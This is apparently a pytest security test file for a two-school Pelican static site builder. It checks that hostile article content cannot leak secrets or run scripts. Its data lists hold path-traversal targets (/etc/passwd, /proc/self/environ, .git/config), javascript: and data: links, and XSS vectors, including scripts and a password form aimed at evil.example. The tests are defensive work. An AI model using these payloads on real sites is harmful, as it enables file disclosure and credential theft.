"""What a hostile editor could try (facts 45-52): other people's files, other schools' pages, live HTML, hidden data."""

from __future__ import annotations

import io
import os
import re
import tempfile
from pathlib import Path

import pytest
from hypothesis import find
from hypothesis import strategies as st
from pelican.utils import sanitised_join
from PIL import Image
from tests.build.sites import Site, article, different
from tests.build.watch import openings
from tests.hostile.live import Live, live_parts

CANARY = "CHIMHOANGYEN"
FOLDER = "binh-minh/tin-tuc/2024/2024-11-29-bai"
PAGE = "binh-minh/tin-tuc/2024-11-29-bai/"
PHOTO = "binh-minh/tin-tuc/2024/2024-09-05-khai-giang/anh-1.jpg"


@pytest.fixture
def site(build_site) -> Site:
    """A built site with secrets round it: in its folder, in another school's drafts, in the environment."""
    site = build_site("two-schools")
    (site.root / "secret.jpg").write_text(CANARY)
    (site.root / ".git").mkdir()
    (site.root / ".git" / "config").write_text(CANARY)
    site.write("hoa-mai/tin-tuc/2024/2024-11-29-nhap/index.md", article(CANARY, CANARY, status="draft"))
    return site


OUTSIDE = (
    "../../../../../secret.jpg",
    "../../../../../.git/config",
    "{attach}../../../../../secret.jpg",
    "{static}/../secret.jpg",
    "{static}../../../../../.git/config",
    "/../secret.jpg",
    "%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/secret.jpg",
    "..\\\\..\\\\secret.jpg",
    "/proc/self/environ",
    "file:///etc/passwd",
    "../../../../hoa-mai/tin-tuc/2024/2024-11-29-nhap/index.md",
    "/hoa-mai/tin-tuc/2024/2024-11-29-nhap/index.md",
)


@pytest.mark.parametrize("target", OUTSIDE)
def test_fact_45_a_picture_never_leads_out_of_the_articles_folder(site, monkeypatch, target):
    """In Pelican one Markdown image publishes any file the build can read, environment and tokens included."""
    monkeypatch.setenv("SECRET", CANARY)
    site.write(f"{FOLDER}/index.md", article("Bài", f"![x]({target}) <img src='{target}'>\n\n[gallery: {target}]"))
    with openings(site.root / "secret.jpg") as first, openings(site.root / ".git") as second:
        site.rebuild()
    assert first == second == []
    assert site.report.exit_status == 1
    assert not site.grep(CANARY)
    assert site.has(PAGE)


@pytest.mark.parametrize("target", OUTSIDE)
def test_fact_45_a_link_to_a_file_publishes_no_file(site, target):
    before = set(site.files())
    site.write(f"{FOLDER}/index.md", article("Bài", f"[tệp]({target})"))
    site.rebuild()
    assert not site.grep(CANARY)
    new = {path for path in set(site.files()) - before if not path.endswith((".html", ".xml", ".json", ".jpg"))}
    assert new == set()
    if not target.endswith("index.md") and not target.startswith("/proc"):
        assert site.report.exit_status == 1
        assert "secret" not in re.sub(r"<script.*?</script>", "", site.html(PAGE), flags=re.DOTALL)


@pytest.mark.parametrize("target", [target for target in OUTSIDE if not target.startswith("%")])
@pytest.mark.parametrize("field", ["cover: {}", "photos: [{{file: '{}'}}]", "documents: [{{title: x, file: '{}'}}]"])
def test_fact_45_46_no_field_leads_out_of_the_articles_folder(site, field, target):
    before = site.files()
    text = article("Bài").replace("title", field.format(target) + "\ntitle")
    site.write(f"{FOLDER}/index.md", text)
    site.rebuild()
    assert site.report.exit_status == 1
    assert not site.grep(CANARY)
    assert different(site.files("hoa-mai"), {p: d for p, d in before.items() if p.startswith("hoa-mai/")}) == []


def test_fact_46_builds_write_into_their_own_places_only(site):
    """Whatever the content says: the output, the tree beside it, the cache."""
    around = {path.name for path in site.root.parent.iterdir()}
    for number, target in enumerate(OUTSIDE):
        site.write(
            f"binh-minh/tin-tuc/2024/2024-11-{number + 1:02}-bai.md",
            article(target, f"![x]({target})", tags=f"['{target}']"),
        )
    site.rebuild()
    assert {path.name for path in site.root.parent.iterdir()} == around
    own = {"content", "output", ".output-next", ".cache", "pelicanconf.py", "secret.jpg", ".git"}
    assert {path.name for path in site.root.iterdir()} == own
    assert {path.name for path in (site.root / ".cache").iterdir()} == {"bangtin"}


def test_fact_47_pelicans_guard_lets_a_sibling_pass():
    """Kept as a proof that our oracle, the real path, finds such a hole (ours is held against it in the unit tests)."""
    base = Path(tempfile.gettempdir()) / "output"

    def escapes(parts: list[str]) -> bool:
        try:
            joined = sanitised_join(str(base), *parts)
        except RuntimeError:
            return False
        return os.path.commonpath([os.path.realpath(joined), os.path.realpath(base)]) != os.path.realpath(base)

    parts = st.lists(st.sampled_from(["..", "output", "output-evil", "x.html"]), min_size=1, max_size=3)
    assert escapes(find(parts, escapes))


STRANGE_NAMES = (
    "index",
    "..",
    "...",
    "2024-11-29-bai.",
    "2024-11-29-bai ",
    "2024-11-29-BAI",
    "2024-11-29-bài",
    "2024-11-29-bai\n",
    "2024-11-29-bai%2fx",
    "con",
    "-a",
    "a" * 130,
    "trang",
    "feeds",
    "a\u202eb",
)


def test_fact_48_no_name_of_a_file_or_folder_reaches_another_address(build_site):
    """Each text is published at its own address or named; nothing that was there before changes."""
    site = build_site("two-schools")
    before = site.files("hoa-mai")
    for number, name in enumerate(name for name in STRANGE_NAMES if name.strip(".")):
        kind = f"{name}/index.md" if number % 2 else f"{name}.md"
        for place in ("tin-tuc/2024", "tin-tuc", "pages", "photos", "en", "the", "hoa-mai"):
            site.write(f"binh-minh/{place}/{kind}", article(f"Tên {number}"))
    site.rebuild()
    assert site.report.exit_status == 1
    assert site.report.balanced
    assert different(site.files("hoa-mai"), before) == []
    counts = site.report.counts
    errors = {problem.file for problem in site.report.sorted_problems() if problem.severity == "error"}
    assert counts["failed"] == len([file for file in errors if file.endswith(".md")])
    assert "Tên" not in site.html("")[: site.html("").index("<main")]


DANGEROUS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "blob:https://x/1",
    "file:///etc/passwd",
)


@pytest.mark.parametrize("address", DANGEROUS)
def test_fact_49_no_dangerous_address_becomes_a_link(build_site, address):
    site = build_site("two-schools")
    usual = live_parts(site.output)
    link = f'[a]({address}) <{address}> <a href="{address}">e</a> ![f]({address})'
    body = f"{link}\n\n[c][d]\n\n[d]: {address}"
    site.write(f"{FOLDER}/index.md", article("Bài", body))
    site.write("binh-minh/tin-tuc/2024/2024-11-28-bai.md", article("Bài", source=f'{{name: Báo, url: "{address}"}}'))
    site.rebuild()
    assert site.report.exit_status == 1
    assert live_parts(site.output) == usual


VECTORS = """
<script>alert(1)</script>
<ScRiPt src=//evil.example></ScRiPt>
<img src=x onerror=alert(1)>
<svg onload=alert(1)><script>alert(1)</script></svg>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc='<script>alert(1)</script>'></iframe>
<object data=data:text/html,x></object><embed src=x>
<form action=https://evil.example><input name=mat-khau><button>Gửi</button></form>
<style>body{display:none}</style>
<link rel=stylesheet href=//evil.example><base href=//evil.example><meta http-equiv=refresh content=0;url=//evil>
<p style='position:fixed' onclick=alert(1) id=main class=bt-header>x</p>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<noscript><p title='</noscript><img src=x onerror=alert(1)>'>
<a href=java&#9;script:alert(1)>x</a><a href='&#x6A;avascript:alert(1)'>y</a>
<details open ontoggle=alert(1)><video><source onerror=alert(1)></video>
<!--><img src=x onerror=alert(1)>--> <![CDATA[<img src=x onerror=alert(1)>]]> <?x <img src=x onerror=alert(1)>?>
{: onclick=alert(1) style="x" }
![x](anh.jpg){: onerror=alert(1) }
[x](https://a.example "\\" onmouseover=alert(1) x=\\"")
| a | b |{: onclick=alert(1) }
""".strip().splitlines()


def test_fact_51_nothing_that_editors_write_is_live(build_site):
    site = build_site("two-schools")
    usual = live_parts(site.output)
    for number, vector in enumerate(VECTORS):
        name = f"binh-minh/tin-tuc/2024/2024-11-{number + 1:02}-bai.md"
        site.write(
            name, article(f"Bài {number}", f"Đầu.\n\n{vector}\n\nGiữa {vector} dòng.\n\n- {vector}\n\n> {vector}")
        )
    site.write("binh-minh/pages/lien-he.md", article("Liên hệ", "\n\n".join(VECTORS)))
    site.rebuild()
    assert live_parts(site.output) == usual
    assert site.report.counts["published"] > len(VECTORS)


def test_the_audit_would_see_each_vector():
    """The parser finds something in what a browser would run, so that finding nothing means something."""
    seen = 0
    for vector in VECTORS:
        parser = Live()
        parser.feed(vector)
        seen += bool(parser.found)
    assert seen >= 13


def test_fact_50_links_and_devices_are_refused_before_anything_reads_them(build_site, tmp_path):
    """Pelican follows them: 1,345 files of /etc were published, exit status 0."""
    site = build_site("two-schools")
    before = site.files("hoa-mai")
    folder = site.path(FOLDER)
    folder.mkdir()
    (folder / "index.md").write_text(article("Bài", "![x](anh.jpg) ![y](to.jpg)"), encoding="utf-8")
    (tmp_path / "anh.jpg").write_bytes(site.path(PHOTO).read_bytes())
    (folder / "anh.jpg").symlink_to(tmp_path / "anh.jpg")
    (folder / "to.jpg").symlink_to("../2024-09-05-khai-giang/anh-1.jpg")
    (folder / "vong").symlink_to(folder)
    site.path("binh-minh/tin-tuc/2023").symlink_to("/etc")
    site.path("truong-la").symlink_to(site.path("hoa-mai"))
    site.path("hoa-mai/tin-tuc/2023").symlink_to(site.path("binh-minh/tin-tuc/2024"))
    site.path("binh-minh/nguoc").symlink_to(site.output)
    site.path("binh-minh/vo").symlink_to("khong-co")
    os.mkfifo(folder / "ong.jpg")
    with openings(tmp_path) as outside, openings(Path("/etc")) as etc:
        site.rebuild()
    assert outside == etc == []
    codes = {(code, file.removeprefix("content/")) for code, file, _, _ in site.problems()}
    links = {"anh.jpg", "to.jpg", "vong"}
    assert codes >= {("BLD001", f"{FOLDER}/{name}") for name in links} | {("BLD002", f"{FOLDER}/ong.jpg")}
    others = {"binh-minh/tin-tuc/2023", "truong-la", "hoa-mai/tin-tuc/2023", "binh-minh/nguoc", "binh-minh/vo"}
    assert codes >= {("BLD001", path) for path in others}
    assert site.report.exit_status == 1
    assert different(site.files("hoa-mai"), before) == []
    assert site.has(PAGE)


def spoken_photo() -> bytes:
    """A photo that tells where it was taken, by whom and of whom, in every way that it can."""
    image = Image.linear_gradient("L").resize((96, 64)).convert("RGB")
    exif = Image.Exif()
    exif[0x010E] = f"{CANARY} mo ta"
    exif[0x013B] = f"{CANARY} tac gia"
    exif.get_ifd(0x8825).update({1: "N", 2: (21.0, 15.0, 29.0), 3: "E", 4: (105.0, 50.0, 57.0)})
    file = io.BytesIO()
    image.save(file, "JPEG", exif=exif, comment=f"{CANARY} ghi chu".encode())
    return file.getvalue() + f"<x:xmpmeta>{CANARY}</x:xmpmeta>".encode()


def test_fact_52_a_photo_says_nothing_but_its_picture(new_site):
    site = new_site("two-schools", alone=True)
    data = spoken_photo()
    assert data.count(CANARY.encode()) == 4
    site.write(f"{FOLDER}/{CANARY}.jpg", data)
    site.write(f"{FOLDER}/index.md", article("Bài", f"![Sân trường]({CANARY}.jpg)"))
    site.build()
    assert site.report.exit_status == 0
    assert not site.grep(CANARY)
    assert not site.grep(data[:200])
    pictures = [path for path in site.files("binh-minh") if path.endswith((".jpg", ".webp"))]
    assert len(pictures) >= 6
    for path in pictures:
        with Image.open(site.output / path) as image:
            assert not image.getexif(), path
            assert not {"exif", "xmp", "comment", "photoshop"} & set(image.info), path


def test_fact_52_a_photo_whose_consent_ends_or_is_withdrawn_is_taken_down(build_site):
    site = build_site("two-schools")
    page = "binh-minh/tin-tuc/2024/2024-09-05-khai-giang/index.md"
    photos = {path for path in site.files("binh-minh") if "/photos/" in path and "/the-" not in path}
    site.edit(page, "  - file: anh-2.jpg\n", "  - file: anh-2.jpg\n    consent: withdrawn\n")
    site.edit(page, "  - file: anh-1.jpg\n", "  - file: anh-1.jpg\n    consent: yes\n    consent_until: 03/12/2024\n")
    site.rebuild()
    left = photos & set(site.files())
    assert len(left) == len(photos) / 2
    site.now += 3 * 86400
    site.rebuild()
    assert photos & set(site.files()) == set()
    assert not [path for path in left if site.grep(path.rpartition("/")[2].rpartition("-")[0])]
    assert different(site.files(), site.clean().files()) == []
